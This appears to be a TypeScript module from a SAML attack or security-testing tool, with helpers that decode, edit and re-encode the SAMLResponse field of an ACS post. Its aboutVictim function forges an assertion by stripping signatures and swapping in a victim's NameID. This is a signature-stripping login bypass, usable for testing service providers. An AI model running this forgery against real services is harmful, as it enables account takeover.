import type { AcsRequest, AttackPerson } from '../../model/attack.ts';
import { EditError, setText } from '../kit/edit.ts';
import { removeSignatures } from '../kit/sign-response.ts';

export type Fields = readonly (readonly [name: string, value: string])[];

/** The form fields of the post, in order. */
export function fieldsOf({ body = '' }: AcsRequest): Fields {
  return [...new URLSearchParams(body)];
}

/** Value of a form field that must be there. */
export function fieldOf(request: AcsRequest, name: string): string {
  const found = fieldsOf(request).find(([key]) => key === name);
  if (found === undefined) throw new EditError(`Nothing to change: the post has no field "${name}".`);
  return found[1];
}

/** The post with these form fields instead of its own. */
export function withFields(request: AcsRequest, fields: Fields): AcsRequest {
  return { ...request, body: encodeFields(fields) };
}

/** Fields as `application/x-www-form-urlencoded`, also for a query string. */
export function encodeFields(fields: Fields): string {
  return fields.map(([name, value]) => `${name}=${encodeURIComponent(value)}`).join('&');
}

/** The address with more fields in its query string. */
export function withQuery(url: string, fields: Fields): string {
  return `${url}${url.includes('?') ? '&' : '?'}${encodeFields(fields)}`;
}

/** XML of the message in a form field. */
export function messageOf(request: AcsRequest, name = 'SAMLResponse'): string {
  return Buffer.from(fieldOf(request, name), 'base64').toString('utf8');
}

/** The post with another message in its form field. */
export function withMessage(request: AcsRequest, xml: string, name = 'SAMLResponse'): AcsRequest {
  const value = Buffer.from(xml, 'utf8').toString('base64');
  return withFields(
    request,
    fieldsOf(request).map(([key, old]) => [key, key === name ? value : old] as const),
  );
}

/** Value of a form field with the same message about the victim, and nothing signed. */
export function aboutVictim(request: AcsRequest, { nameId }: AttackPerson): string {
  const forged = setText(removeSignatures(messageOf(request)), 'Subject/NameID', nameId);
  return Buffer.from(forged, 'utf8').toString('base64');
}
